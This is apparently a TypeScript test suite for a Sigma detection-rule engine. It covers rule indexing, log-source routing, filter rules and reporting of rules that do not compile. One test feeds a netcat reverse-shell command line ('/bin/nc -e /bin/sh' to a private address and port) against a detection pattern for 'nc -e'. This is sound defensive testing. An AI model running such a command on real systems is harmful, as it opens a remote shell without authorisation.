import assert from 'node:assert/strict';
import { readFileSync, readdirSync } from 'node:fs';
import { join } from 'node:path';
import { describe, it } from 'node:test';
import { SigmaEngine } from './engine.js';
import { loadRules } from './rules.js';
import { parseRuleFile } from './sigma/parse.js';
import type { SigmaRule } from './sigma/types.js';

const DATA = new URL('../../../shared/data/', import.meta.url).pathname;

function jsonlFiles(dir: string, out: string[] = []): string[] {
  for (const e of readdirSync(dir, { withFileTypes: true })) {
    const p = join(dir, e.name);
    if (e.isDirectory()) jsonlFiles(p, out);
    else if (e.name.endsWith('.jsonl')) out.push(p);
  }
  return out.sort();
}

function rules(yaml: string): SigmaRule[] {
  const { documents, problems } = parseRuleFile(yaml, 'test.yml');
  assert.deepEqual(problems, []);
  return documents.filter((d): d is SigmaRule => d.kind === 'rule');
}

describe('SigmaEngine', () => {
  it('the literal index changes nothing: same matches as trying every rule, on every shared event', () => {
    const corpus = loadRules([join(DATA, 'sigma', 'rules'), join(DATA, 'sigma', 'rules-threat-hunting')]);
    const indexed = SigmaEngine.build(corpus.rules).engine;
    const plain = SigmaEngine.build(corpus.rules, { noIndex: true }).engine;
    let events = 0;
    let hits = 0;
    for (const file of jsonlFiles(join(DATA, 'events'))) {
      for (const line of readFileSync(file, 'utf8').split('\n')) {
        if (!line.trim()) continue;
        const event = JSON.parse(line);
        const a = indexed.match(event).map((r) => r.rule.id);
        const b = plain.match(event).map((r) => r.rule.id);
        assert.deepEqual(a, b, `${file}: ${line.slice(0, 120)}`);
        events++;
        hits += a.length;
      }
    }
    assert.ok(events > 30_000, `read ${events} events`);
    assert.ok(hits > 1000, `found ${hits} matches`);
    assert.ok(indexed.tested * 20 < plain.tested, `index tests ${indexed.tested} rules, plain ${plain.tested}`);
  });

  it('routes process_creation rules to Sysmon 1 and to Security 4688 with the field renamed', () => {
    const { engine } = SigmaEngine.build(rules(`
title: whoami
id: r1
logsource: { product: windows, category: process_creation }
detection:
  selection: { Image|endswith: '\\whoami.exe' }
  condition: selection
`));
    const sysmon = { Channel: 'Microsoft-Windows-Sysmon/Operational', EventID: 1, Image: 'C:\\Windows\\System32\\whoami.exe' };
    const security = { Channel: 'Security', EventID: 4688, NewProcessName: 'C:\\Windows\\System32\\WHOAMI.EXE' };
    assert.equal(engine.match(sysmon).length, 1);
    assert.equal(engine.match(security).length, 1);
    assert.equal(engine.match({ ...sysmon, EventID: 3 }).length, 0, 'Sysmon 3 is not process creation');
    assert.equal(engine.match({ ...security, Channel: 'security' }).length, 1, 'channel names compare case-insensitively');
    assert.deepEqual(engine.explain(security, engine.rules[0]!), ['NewProcessName']);
  });

  it('ignoreLogsource evaluates every rule on every event', () => {
    const yaml = `
title: any source
id: r2
logsource: { product: linux, category: process_creation }
detection:
  selection: { CommandLine|contains: 'nc -e' }
  condition: selection
`;
    const event = { CommandLine: '/bin/nc -e /bin/sh 10.0.0.1 4444' };
    assert.equal(SigmaEngine.build(rules(yaml)).engine.match(event).length, 0);
    const { engine, report } = SigmaEngine.build(rules(yaml), { ignoreLogsource: true });
    assert.equal(report.unmapped.length, 0);
    assert.equal(engine.match(event).length, 1);
  });

  it('applies filter rules to the rules they name', () => {
    const { documents } = parseRuleFile(`
title: net use
id: base
logsource: { product: windows, category: process_creation }
detection:
  selection: { CommandLine|contains: 'net use' }
  condition: selection
---
title: admin hosts are expected
logsource: { product: windows, category: process_creation }
filter:
  rules: [base]
  selection: { Computer|startswith: 'ADMIN-' }
  condition: not selection
`, 'f.yml');
    const rulesOnly = documents.filter((d): d is SigmaRule => d.kind === 'rule');
    const filters = documents.filter((d) => d.kind === 'filter');
    const { engine } = SigmaEngine.build(rulesOnly, { filters: filters as never });
    const ev = { Channel: 'Microsoft-Windows-Sysmon/Operational', EventID: 1, CommandLine: 'net use \\\\x\\c$', Computer: 'WS-1' };
    assert.equal(engine.match(ev).length, 1);
    assert.equal(engine.match({ ...ev, Computer: 'ADMIN-7' }).length, 0);
  });

  it('reports a rule that does not compile and keeps the others', () => {
    const { engine, report } = SigmaEngine.build(rules(`
title: bad regex
id: bad
logsource: { product: windows, service: security }
detection:
  selection: { TargetUserName|re: '(?<=x)y' }
  condition: selection
---
title: good
id: good
logsource: { product: windows, service: security }
detection:
  selection: { EventID: 1102 }
  condition: selection
`));
    assert.equal(report.problems.length, 1);
    assert.match(report.problems[0]!.where, /^test\.yml:\d+$/);
    assert.match(report.problems[0]!.reason, /RE2/);
    assert.equal(engine.match({ Channel: 'Security', EventID: 1102 }).length, 1);
  });
});
